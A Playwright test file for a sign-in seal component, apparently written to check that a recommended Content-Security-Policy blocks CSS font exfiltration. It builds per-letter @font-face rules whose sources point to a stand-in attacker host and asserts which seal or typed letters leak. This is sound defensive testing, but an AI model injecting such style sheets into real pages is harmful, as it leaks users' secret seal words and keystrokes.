import type { Page } from '@playwright/test';
import { pageHeaders } from '../../../demo/headers.mjs';
import { openChange, openWithTextSeal, seal } from '../support/sign-in-page.js';
import { expect, test } from './support/attack.js';
import type { Lab } from './support/lab.js';

// The attacker gets a style sheet into the genuine page. It gives each letter a font of its own, and the browser
// requests only the fonts of those letters that the page shows.

const LETTERS = 'abcdefghijklmnopqrstuvwxyz'.split('');

const STYLES = {
  'the seal’s font': 'signin-seal { --seal-font-seal: spy }',
  'the font of all': 'signin-seal { --seal-font: spy }',
  'an inherited font': 'body { font-family: spy }',
} as const;

const IN_FIELDS = 'signin-seal::part(field) { font-family: spy }';

const policy = pageHeaders['Content-Security-Policy'];

/** The recommended policy without the directives that say where fonts may come from. */
const WITHOUT_FONTS = policy.replace(/default-src [^;]*; |font-src [^;]*; /g, '');

function fontsOf(lab: Lab): string {
  const faces = LETTERS.map((letter) => {
    const range = letter.codePointAt(0)?.toString(16) ?? '';
    const source = lab.at('phish.localhost', `/${letter}.woff2`);
    return `@font-face { font-family: spy; src: url(${source}); unicode-range: U+${range} }`;
  });
  return faces.join('\n');
}

/** Opens a page of the genuine site that has a seal, with the attacker's style sheet. */
async function openStyled(page: Page, lab: Lab, rule: string, csp?: string): Promise<void> {
  const css = fontsOf(lab) + rule;
  lab.file('login.genuine.localhost', '/spy.css', css, { 'Content-Type': 'text/css' });
  const html = `<link rel="stylesheet" href="/spy.css" />
    <script type="module" src="/demo/sign-in.js"></script><form><signin-seal></signin-seal></form>`;
  const headers = csp ? { 'Content-Security-Policy': csp } : {};
  await openWithTextSeal(page, ['odd', 'whale']);
  await page.goto(lab.page('login.genuine.localhost', '/styled.html', html, headers));
  await seal(page).waitFor();
}

/** The letters whose fonts were requested from the attacker's host. */
const leaked = (lab: Lab): string =>
  [...new Set(lab.requestsTo('phish.localhost').map(({ path }) => path[1]))].sort().join('');

/** Waits until the browser has tried to load fonts, and has failed with all that it tried. */
async function fontsTried(page: Page): Promise<void> {
  await page.waitForFunction(() => {
    const tried = [...document.fonts].filter(({ status }) => status !== 'unloaded');
    return tried.length > 0 && tried.every(({ status }) => status === 'error');
  });
}

for (const [what, rule] of Object.entries(STYLES)) {
  test(`with the recommended policy, no font is requested: ${what}`, async ({ page, lab }) => {
    await openStyled(page, lab, rule, policy);
    await fontsTried(page);
    expect(leaked(lab)).toBe('');
  });

  test(
    `without a policy for fonts, the seal’s letters leak: ${what}`,
    { tag: '@control' },
    async ({ page, lab }) => {
      await openStyled(page, lab, rule, WITHOUT_FONTS);
      await expect.poll(() => leaked(lab)).toMatch(/a.*d.*e.*h.*l.*o.*w/);
    },
  );
}

test(
  'without any policy, exactly the seal’s letters leak',
  { tag: '@control' },
  async ({ page, lab }) => {
    await openStyled(page, lab, STYLES['the seal’s font']);
    // With the name of the color, which is for screen readers.
    await expect.poll(() => leaked(lab)).toBe('adehlow');
  },
);

test('letters leak while they are typed, unless the policy stops it', async ({ page, lab }) => {
  for (const [csp, letters] of [
    [policy, ''],
    [WITHOUT_FONTS, 'adehloqwz'],
  ] as const) {
    await openStyled(page, lab, IN_FIELDS, csp);
    await openChange(page);
    await page.getByRole('textbox', { name: 'Line 3' }).pressSequentially('zq');
    await fontsTried(page);
    await expect.poll(() => leaked(lab)).toBe(letters);
  }
});
